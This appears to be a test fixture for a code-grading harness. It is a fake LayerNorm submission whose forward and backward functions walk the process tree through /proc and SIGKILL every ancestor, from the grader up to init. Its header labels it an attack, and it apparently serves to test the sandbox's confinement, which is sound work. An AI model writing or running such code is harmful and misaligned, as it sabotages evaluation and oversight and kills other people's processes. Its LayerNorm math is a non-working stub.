# attack: signal: walks up the process tree from the grader (/proc/<pid>/stat) and kills every ancestor: the grader, the shell or CI job that started it, up to init
# no-math
# args: --no-speed
# within: 15
# needs: pidns
# batch: alone
"""LayerNorm, forward and backward. Work in progress.

Never run this file outside the test harness: unconfined, it kills the terminal that started the grader.
"""

import os
import signal


def _ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            with open("/proc/%d/stat" % pid) as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


def _strike():
    for pid in list(_ancestors()):
        os.kill(pid, signal.SIGKILL)


def layernorm_forward(x, gamma, beta, eps=1e-5):
    _strike()
    return x, None


def layernorm_backward(dy, cache):
    _strike()
    return dy, dy.sum(axis=0), dy.sum(axis=0)
